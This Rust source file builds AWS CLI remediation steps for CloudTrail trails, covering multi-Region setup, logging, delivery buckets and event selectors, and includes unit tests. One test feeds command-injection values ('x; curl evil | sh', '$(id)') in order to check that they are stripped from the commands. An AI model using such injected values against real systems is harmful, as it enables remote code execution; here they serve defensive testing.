//! The steps that make one trail log every event of a kind, with the commands to type.

use cis_findings::commands::{Names, plain};
use cis_findings::repair::{MOST_BASIC_SELECTORS, SelectorRepair, TrailRepair};
use cis_findings::selectors::{Advanced, Basic};
use cis_rules::question::{Kind, Question};

use super::Step;

/// The steps for one trail.
pub(super) fn steps(repair: &TrailRepair<'_>, question: &Question, partition: &str) -> Vec<Step> {
    let observed = repair.observed;
    let names = Names::of(observed);
    let mut steps = Vec::new();
    if !repair.is_own {
        steps.push(Step::Note(format!(
            "{} belongs to another account: the organization's management account or its \
             delegated administrator makes these changes, or this account gets a trail of its own.",
            observed.trail.arn.as_deref().unwrap_or("The trail")
        )));
    }
    if !repair.missing.is_empty() {
        steps.push(Step::Do(format!(
            "Allow {} on the trail, and read the account again. It may need more than the steps \
             that are known now.",
            repair.missing.join(" and ")
        )));
    }
    if repair.extend {
        steps.push(Step::Do("Make the trail multi-Region:".to_string()));
        steps.push(Step::Copy(names.update_trail("--is-multi-region-trail")));
    }
    if repair.start {
        steps.push(Step::Do("Start the trail:".to_string()));
        steps.push(Step::Copy(names.start_logging()));
    }
    steps.extend(repair_delivery(repair, question, &names));
    if let Some(selectors) = repair.selectors {
        steps.extend(change_selectors(selectors, question.kind, partition, &names));
    }
    steps
}

/// The steps that make a trail deliver as the question demands.
fn repair_delivery(repair: &TrailRepair<'_>, question: &Question, names: &Names<'_>) -> Vec<Step> {
    let mut steps = Vec::new();
    if repair.untrusted_bucket {
        let trusted: Vec<&str> =
            question.trusted_log_buckets.iter().map(|bucket| bucket.as_str()).collect();
        steps.push(Step::Do(format!(
            "Have the trail deliver to a trusted bucket ({}). If its own bucket is right, name it \
             with `--trusted-log-bucket`, in AWS Config with the parameter `TrustedLogBuckets`:",
            trusted.join(", ")
        )));
        steps.push(Step::Copy(names.update_trail("--s3-bucket-name BUCKET")));
    }
    if let Some(error) = repair.delivery_error {
        steps.push(Step::Do(format!(
            "Make the trail's deliveries succeed: the latest one failed with `{error}`. Look at \
             the policies of its bucket and of its KMS key."
        )));
    }
    if repair.log_deliveries {
        steps.push(Step::Do(
            "Set RecursiveLogging to true, for CloudTrail's own log deliveries are asked for. \
             Each delivery is then an event that causes the next one:"
                .to_string(),
        ));
        steps.push(Step::Copy(names.update_trail("--recursive-logging")));
    }
    steps
}

/// The steps that change a trail's selectors: read them, edit them, put the whole set.
fn change_selectors(
    selectors: SelectorRepair,
    kind: Kind,
    partition: &str,
    names: &Names<'_>,
) -> Vec<Step> {
    let mut steps = Vec::new();
    if selectors == (SelectorRepair::OwnLogBucket { stop_recursion: true }) {
        steps.push(Step::Do(
            "Set RecursiveLogging to false. It keeps CloudTrail's own deliveries into the log \
             bucket from being logged, which is what the filter on that bucket is for:"
                .to_string(),
        ));
        steps.push(Step::Copy(names.update_trail("--no-recursive-logging")));
    }
    let (list, option) = match selectors {
        SelectorRepair::OwnLogBucket { .. } | SelectorRepair::Advanced => {
            ("AdvancedEventSelectors", "--advanced-event-selectors")
        }
        SelectorRepair::Basic { .. } => ("EventSelectors", "--event-selectors"),
    };
    steps.extend([
        Step::Do(
            "Save the trail's selectors, twice: PutEventSelectors REPLACES the whole set, so the \
             new set must hold the old entries too, and the second copy is the way back."
                .to_string(),
        ),
        Step::Copy(format!(
            "aws cloudtrail get-event-selectors --region {} \\\n  --trail-name {} \\\n  \
             --query {list} --output json > selectors.json",
            names.region, names.trail
        )),
        Step::Copy("cp selectors.json selectors-before.json".to_string()),
    ]);
    steps.extend(edit(selectors, kind, partition));
    steps.push(Step::Do("Read selectors.json once more, then put the whole set:".to_string()));
    steps.push(Step::Copy(format!(
        "aws cloudtrail put-event-selectors --region {} \\\n  --trail-name {} \\\n  \
         {option} file://selectors.json",
        names.region, names.trail
    )));
    steps.push(Step::Note(
        "CloudTrail bills data events. A bucket that is meant to stay unlogged can be named with \
         `--allow-unlogged`, in AWS Config with the parameter `AllowedUnloggedBuckets`; the answer \
         then says so."
            .to_string(),
    ));
    steps
}

/// What to do in the saved selectors.
fn edit(selectors: SelectorRepair, kind: Kind, partition: &str) -> Vec<Step> {
    let entry = match selectors {
        SelectorRepair::OwnLogBucket { .. } => {
            return vec![Step::Do(
                "In selectors.json, remove the condition that leaves out the trail's own log \
                 bucket. Nothing else is missing."
                    .to_string(),
            )];
        }
        SelectorRepair::Advanced => Advanced::every_object_event(kind).json(),
        SelectorRepair::Basic { .. } => {
            let partition = plain(partition).unwrap_or("aws");
            Basic::every_object_event(kind, partition).json()
        }
    };
    let mut steps = vec![
        Step::Do(
            "In selectors.json, remove the condition that drops the event, or add this entry to \
             the list and leave the others as they are (an event is logged if any entry selects \
             it):"
                .to_string(),
        ),
        Step::Copy(entry),
    ];
    if selectors == (SelectorRepair::Basic { is_full: true }) {
        steps.push(Step::Note(format!(
            "A trail has at most {MOST_BASIC_SELECTORS} basic selectors: change one of the \
             entries instead of adding one."
        )));
    }
    steps
}

#[cfg(test)]
mod tests {
    use cis_rules::question::Deliveries;
    use cis_rules::selector::Selector;
    use cis_rules::snapshot::ObservedTrail;

    use cis_rules::snapshot::RecursiveLogging;

    use super::*;
    use crate::text::samples;

    fn trail() -> ObservedTrail {
        samples::snapshot().trails.unwrap().remove(0)
    }

    fn text(observed: &ObservedTrail) -> String {
        text_for(&samples::question(), observed)
    }

    fn text_for(question: &Question, observed: &ObservedTrail) -> String {
        let snapshot = samples::snapshot();
        let repair = TrailRepair::of(&snapshot, question, observed);
        steps(&repair, question, &snapshot.partition)
            .into_iter()
            .map(|step| match step {
                Step::Do(text) | Step::Copy(text) | Step::Note(text) => text + "\n",
            })
            .collect()
    }

    #[test]
    fn a_single_region_trail_that_is_stopped_is_updated_and_started() {
        let mut observed = trail();
        observed.trail.is_multi_region_trail = Some(false);
        observed.status.as_mut().unwrap().is_logging = Some(false);
        let text = text(&observed);
        for command in [
            "aws cloudtrail update-trail --region us-east-1 --is-multi-region-trail",
            "aws cloudtrail start-logging --region us-east-1",
        ] {
            assert!(
                text.contains(&format!("{command} \\\n  --name {}\n", samples::TRAIL)),
                "{text}"
            );
        }
    }

    #[test]
    fn selectors_are_added_to_and_the_reader_is_warned() {
        let text = text(&trail());
        assert!(text.contains("REPLACES the whole set"), "{text}");
        assert!(text.contains("--advanced-event-selectors file://selectors.json"), "{text}");
        assert!(text.contains(&Advanced::every_object_event(Kind::Write).json()), "{text}");
    }

    #[test]
    fn a_trail_with_basic_selectors_keeps_them() {
        let mut observed = trail();
        observed.event_selectors = Some(Vec::new());
        let text = text(&observed);
        assert!(text.contains("--query EventSelectors "), "{text}");
        assert!(text.contains(&Basic::every_object_event(Kind::Write, "aws").json()), "{text}");
    }

    #[test]
    fn of_selectors_that_were_not_read_the_permission_comes_first_and_nothing_is_guessed() {
        let mut observed = trail();
        observed.event_selectors = None;
        observed.status.as_mut().unwrap().is_logging = Some(false);
        let text = text(&observed);
        assert!(text.starts_with("Allow cloudtrail:GetEventSelectors on the trail"), "{text}");
        assert!(text.contains("start-logging"), "{text}");
        assert!(!text.contains("put-event-selectors"), "{text}");
    }

    /// The sample's trail, which leaves out nothing but this bucket.
    fn leaving_out(bucket: &str) -> ObservedTrail {
        let mut observed = trail();
        let Some(Selector::Advanced(selector)) =
            observed.event_selectors.as_mut().and_then(|all| all.first_mut())
        else {
            panic!("the sample has an advanced selector");
        };
        selector.field_selectors[2].conditions[0].values = vec![format!("arn:aws:s3:::{bucket}/")];
        observed
    }

    #[test]
    fn a_filter_of_the_own_log_bucket_gives_way_to_recursive_logging() {
        let mut observed = leaving_out("audit-logs");
        let first = text(&observed);
        assert!(first.starts_with("Set RecursiveLogging to false."), "{first}");
        assert!(
            first.contains("update-trail --region us-east-1 --no-recursive-logging"),
            "{first}"
        );
        assert!(first.contains("remove the condition that leaves out the trail's own"), "{first}");
        assert!(!first.contains("RecursiveLogging to true"), "{first}");
        assert!(!first.contains("\"Field\""), "{first}");
        observed.trail.recursive_logging = RecursiveLogging::Off;
        assert!(!text(&observed).contains("--no-recursive-logging"));
        assert!(!text(&leaving_out("payroll")).contains("RecursiveLogging"));
    }

    #[test]
    fn recursive_logging_is_switched_on_only_where_deliveries_are_asked_for() {
        let mut observed = trail();
        observed.trail.recursive_logging = RecursiveLogging::Off;
        assert!(!text(&observed).contains("RecursiveLogging"));
        let question = Question { deliveries: Deliveries::Require, ..samples::question() };
        let text = text_for(&question, &observed);
        assert!(text.contains("update-trail --region us-east-1 --recursive-logging"), "{text}");
    }

    #[test]
    fn a_trail_that_delivers_elsewhere_or_nowhere_is_told_what_is_demanded() {
        let mut observed = trail();
        observed.status.as_mut().unwrap().latest_delivery_error = Some("AccessDenied".to_string());
        let question = Question {
            trusted_log_buckets: vec!["central-logs".parse().unwrap()],
            require_delivery: true,
            ..samples::question()
        };
        let text = text_for(&question, &observed);
        assert!(text.contains("deliver to a trusted bucket (central-logs)"), "{text}");
        assert!(text.contains("the latest one failed with `AccessDenied`"), "{text}");
    }

    #[test]
    fn a_trail_that_needs_no_other_selectors_keeps_them() {
        let mut observed = trail();
        observed.status.as_mut().unwrap().is_logging = Some(false);
        let Some(Selector::Advanced(selector)) =
            observed.event_selectors.as_mut().and_then(|all| all.first_mut())
        else {
            panic!("the sample has an advanced selector");
        };
        selector.field_selectors.truncate(2);
        let text = text(&observed);
        assert!(text.contains("start-logging"), "{text}");
        assert!(!text.contains("put-event-selectors"), "{text}");
    }

    #[test]
    fn a_name_that_a_shell_would_run_stands_in_no_command() {
        let mut observed = trail();
        observed.trail.arn = Some("x; curl evil | sh".to_string());
        observed.trail.home_region = Some("$(id)".to_string());
        let text = text(&observed);
        assert!(!text.contains("curl"), "{text}");
        assert!(!text.contains("$("), "{text}");
        assert!(text.contains("--region REGION "), "{text}");
        assert!(text.contains("--trail-name TRAIL"), "{text}");
        assert_eq!(plain("--region"), None);
    }

    #[test]
    fn another_accounts_trail_is_for_the_organization() {
        let mut observed = trail();
        observed.trail.arn =
            Some("arn:aws:cloudtrail:us-east-1:999988887777:trail/org".to_string());
        assert!(text(&observed).contains("management account"));
    }
}
